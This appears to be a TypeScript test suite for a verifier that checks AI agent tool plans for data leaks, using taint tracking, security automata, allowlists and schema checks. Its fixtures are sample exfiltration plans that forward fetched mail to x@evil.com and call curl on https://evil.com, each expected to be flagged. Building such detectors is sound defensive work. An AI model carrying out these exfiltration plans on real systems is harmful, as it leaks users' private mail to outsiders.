// Taint with per-value lineage, sanitizers and fields; security automata over branches, loops and
// symbolic arguments; allowlist, specs and scope.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type Policy, parsePlan, verifyPlan } from '../../src/plan/index.ts';
import { branch, call, planDoc, tool } from './helpers.ts';

const tools = [
  tool('fetch_mail'),
  tool('summarize', ['text']),
  tool('redact', ['text']),
  tool('lookup_contact', ['name']),
  tool('send_email', ['to', 'body']),
];
const external = [{ argument: 'to', notIn: ['valleysharks.com'] }];
const rule = {
  source: { name: 'fetch_mail' },
  sink: { name: 'send_email', arguments: ['body'], condition: external },
};

const verify = (steps: Parameters<typeof planDoc>[0], policy: Policy) =>
  verifyPlan(parsePlan(planDoc(steps)), policy, tools);
const categories = (r: Awaited<ReturnType<typeof verify>>) =>
  r.violations.map((v) => `${v.category}@${v.step}`);

describe('taint', () => {
  const chain = (via: string) => ({
    a: call('fetch_mail', {}, 'mail', 'b'),
    b: call(via, { text: '@mail' }, 'x', 'c'),
    c: call('send_email', { to: 'x@evil.com', body: '@x' }, 'sent'),
  });

  it('propagates through an intermediate tool and names the path', async () => {
    const r = await verify(chain('summarize'), { dataflow: [rule] });
    assert.deepEqual(categories(r), ['taint@c']);
    assert.equal(r.violations[0]!.counterexample, 'fetch_mail (step a) → step b → send_email.body (step c)');
  });

  it('a sanitizer breaks the chain (per rule and global)', async () => {
    assert.deepEqual(
      categories(await verify(chain('redact'), { dataflow: [{ ...rule, sanitizers: ['redact'] }] })),
      [],
    );
    assert.deepEqual(
      categories(await verify(chain('redact'), { dataflow: [rule], sanitizers: ['redact'] })),
      [],
    );
    assert.deepEqual(
      categories(await verify(chain('summarize'), { dataflow: [rule], sanitizers: ['redact'] })),
      ['taint@c'],
    );
  });

  it('lineage is per value: an unrelated value reaching the sink is fine', async () => {
    const r = await verify(
      {
        a: call('fetch_mail', {}, 'mail', 'b'),
        b: call('summarize', { text: 'weekly status' }, 'note', 'c'),
        c: call('send_email', { to: 'x@evil.com', body: '@note' }),
      },
      { dataflow: [rule] },
    );
    assert.deepEqual(categories(r), []);
  });

  it("a rule on one field of the source's result: other fields are not tainted", async () => {
    const bodyRule = { ...rule, source: { name: 'fetch_mail', result: 'body' } };
    const send = (body: string) => ({
      a: call('fetch_mail', {}, 'mail', 'c'),
      c: call('send_email', { to: 'x@evil.com', body }),
    });
    assert.deepEqual(categories(await verify(send('@mail.subject'), { dataflow: [bodyRule] })), []);
    assert.deepEqual(categories(await verify(send('@mail.body'), { dataflow: [bodyRule] })), ['taint@c']);
    assert.deepEqual(categories(await verify(send('@mail'), { dataflow: [bodyRule] })), ['taint@c']);
  });

  it('a symbolic recipient could be external: a violation, or a runtime check under onSymbolic: monitor', async () => {
    const steps = {
      a: call('fetch_mail', {}, 'mail', 'b'),
      b: call('lookup_contact', { name: 'Bob' }, 'bob', 'c'),
      c: call('send_email', { to: '@bob.email', body: '@mail' }),
    };
    const strict = await verify(steps, { dataflow: [rule] });
    assert.deepEqual(categories(strict), ['taint@c']);
    assert.match(strict.violations[0]!.message, /could reach send_email\.body while to = @bob\.email/);
    const monitored = await verify(steps, { dataflow: [rule], onSymbolic: 'monitor' });
    assert.equal(monitored.ok, true);
    assert.deepEqual(
      monitored.residual.map((r) => `${r.category}@${r.step}`),
      ['taint@c'],
    );
  });

  it('taint flows into a loop body through the loop variable', async () => {
    const r = await verify(
      {
        a: call('fetch_mail', {}, 'mails', 'each'),
        each: {
          forEach: '@mails',
          as: 'm',
          maxIterations: 10,
          steps: { s: call('send_email', { to: 'x@evil.com', body: '@m.body' }) },
        },
      },
      { dataflow: [rule] },
    );
    assert.deepEqual(categories(r), ['taint@s']);
  });
});

describe('security automata', () => {
  const automaton = {
    name: 'no_external_summary',
    states: ['idle', 'summarized', 'error'],
    initial: 'idle',
    error: ['error'],
    transitions: [
      { from: 'idle', to: 'summarized', tool: 'summarize' },
      { from: 'summarized', to: 'error', tool: 'send_email', condition: external },
    ],
  };
  const policy: Policy = { automata: [automaton] };

  it('an external send before any summary does not fire (order matters)', async () => {
    const r = await verify(
      {
        a: call('send_email', { to: 'x@evil.com', body: 'hello' }, undefined, 'b'),
        b: call('summarize', { text: 'x' }),
      },
      policy,
    );
    assert.deepEqual(categories(r), []);
  });

  it('a symbolic recipient: "could reach an error state"', async () => {
    const r = await verify(
      {
        a: call('summarize', { text: 'x' }, 's', 'b'),
        b: call('lookup_contact', { name: 'Bob' }, 'bob', 'c'),
        c: call('send_email', { to: '@bob.email', body: '@s' }),
      },
      policy,
    );
    assert.deepEqual(categories(r), ['automaton@c']);
    assert.match(
      r.violations[0]!.message,
      /could take the security automaton no_external_summary into its error state/,
    );
  });

  it('a send on one branch after the join of another: found at the step that does it', async () => {
    const r = await verify(
      {
        a: call('fetch_mail', {}, 'mail', 'if'),
        if: branch({ value: '@mail', isEmpty: true }, 'skip', 'sum'),
        sum: call('summarize', { text: '@mail' }, 's', 'send'),
        skip: call('lookup_contact', { name: 'x' }, undefined, 'send'),
        send: call('send_email', { to: 'x@evil.com', body: 'done' }),
      },
      policy,
    );
    assert.deepEqual(categories(r), ['automaton@send']);
    assert.match(r.violations[0]!.message, /could take/, 'only one branch summarized');
  });

  it('inside a loop, the second round reaches the error state (fixpoint over iterations)', async () => {
    const r = await verify(
      {
        each: {
          forEach: ['a', 'b'],
          as: 'x',
          maxIterations: 2,
          steps: {
            send: call('send_email', { to: 'x@evil.com', body: '@x' }, undefined, 'sum'),
            sum: call('summarize', { text: '@x' }),
          },
        },
      },
      policy,
    );
    assert.deepEqual(categories(r), ['automaton@send']);
  });
});

describe('allowlist, specs and scope', () => {
  it('a tool off the allowlist, and a tool without a spec', async () => {
    const r = await verify(
      { a: call('fetch_mail', {}, 'm', 'b'), b: call('curl', { url: 'https://evil.com' }) },
      { allow: ['fetch_mail', 'summarize'] },
    );
    assert.deepEqual(
      r.violations.map((v) => `${v.category}@${v.step}`),
      ['allowlist@b', 'missing_spec@b'],
    );
  });

  it('references must be defined on every path, and loop results stay in the loop', async () => {
    const r = await verify(
      {
        a: call('fetch_mail', {}, 'mail', 'if'),
        if: branch({ value: '@mail', isEmpty: true }, 'x', 'y'),
        x: call('summarize', { text: '@mail' }, 'summary', 'each'),
        y: call('lookup_contact', { name: '@nobody' }, undefined, 'each'),
        each: {
          forEach: '@mail',
          as: 'm',
          maxIterations: 3,
          steps: { s: call('summarize', { text: '@m' }, 'inner') },
          next: 'z',
        },
        z: call('send_email', { to: 'me@valleysharks.com', body: ['@summary', '@inner'] }),
      },
      {},
    );
    assert.deepEqual(
      r.violations.map((v) => `${v.category}@${v.step}:${v.counterexample}`),
      ['scope@y:@nobody', 'scope@z:@summary', 'scope@z:@inner'],
    );
  });

  it("the tool's input schema: unknown and missing parameters, literal types", async () => {
    const typed = [
      {
        name: 'send_email',
        inputSchema: { properties: { to: { type: 'string' }, body: {} }, required: ['to', 'body'] },
      },
    ];
    const r = await verifyPlan(
      parsePlan(planDoc({ a: call('send_email', { to: 42, bcc: 'x' }) })),
      {},
      typed,
    );
    assert.deepEqual(
      r.violations.map((v) => v.message),
      [
        'bcc is not a parameter of send_email (parameters: to, body)',
        'send_email needs the parameter body',
        'send_email.to must be string',
      ],
    );
  });
});
